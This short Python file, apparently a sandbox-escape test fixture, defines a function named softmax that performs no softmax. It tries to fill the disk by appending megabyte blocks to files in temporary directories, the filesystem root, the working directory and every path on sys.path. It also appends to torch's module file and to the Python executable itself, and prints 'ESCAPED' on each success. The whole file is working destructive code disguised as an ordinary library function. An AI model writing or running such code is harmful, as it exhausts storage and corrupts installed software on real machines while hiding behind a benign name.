"""Fills the disk, wherever it can make a file or write to one."""

import os
import sys

import torch


def softmax(x, dim):
    places = ["@ROOT@", "/tmp", "/var/tmp", "/dev/shm", "/run", "/", os.getcwd(), *sys.path]
    names = [f"{place}/flood" for place in places] + [torch.__file__, sys.executable]
    for name in names:
        try:
            with open(name, "ab") as file:
                file.write(bytes(1 << 20))
            print("ESCAPED: wrote", name)
        except OSError as error:
            last = error
    raise last
